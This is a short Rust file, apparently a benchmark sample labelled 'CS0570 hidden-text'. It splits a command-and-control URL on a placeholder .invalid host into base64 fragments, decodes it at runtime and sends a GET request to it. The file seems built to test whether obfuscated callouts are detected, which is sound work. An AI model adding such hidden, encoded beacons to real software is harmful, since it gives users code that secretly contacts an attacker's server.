//! CS0570 hidden-text
use base64::Engine;

fn main() {
    let parts = ["aHR0cHM6Ly9jMi5jc", "2JlbmNoLmludmFsaWQv"];
    let url = base64::engine::general_purpose::STANDARD.decode(parts.concat()).unwrap();
    let _ = ureq::get(std::str::from_utf8(&url).unwrap()).call();
}
